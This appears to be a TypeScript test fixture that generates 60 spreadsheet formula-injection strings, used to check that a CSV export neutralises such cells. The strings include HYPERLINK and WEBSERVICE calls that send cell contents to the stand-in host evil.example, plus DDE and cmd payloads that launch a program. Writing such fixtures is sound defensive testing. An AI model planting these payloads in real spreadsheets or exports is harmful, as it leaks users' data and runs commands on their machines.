import { cross, exactly } from './cross'

const starts = ['=', '+', '-', '@', '\t=', '\r=', '＝', '＋', '"=', ' ='] as const
const formulas = [
  `HYPERLINK("http://evil.example/?"&A1,"click")`,
  `cmd|' /C calc'!A0`,
  `SUM(1+1)*cmd|' /C calc'!A0`,
  `IMPORTXML("http://evil.example","//a")`,
  `WEBSERVICE("http://evil.example/"&A1)`,
  `DDE("cmd";"/C calc";"x")`,
] as const

/**
 * 60 texts that a spreadsheet takes for a formula. Pages keep and show them as they were written; lib/adapters/csv.test.ts holds that no cell of
 * a table that is taken out is one.
 */
export const formulaCells = exactly(
  60,
  cross(
    starts.map((start) => `${start}¤`),
    formulas,
  ),
)
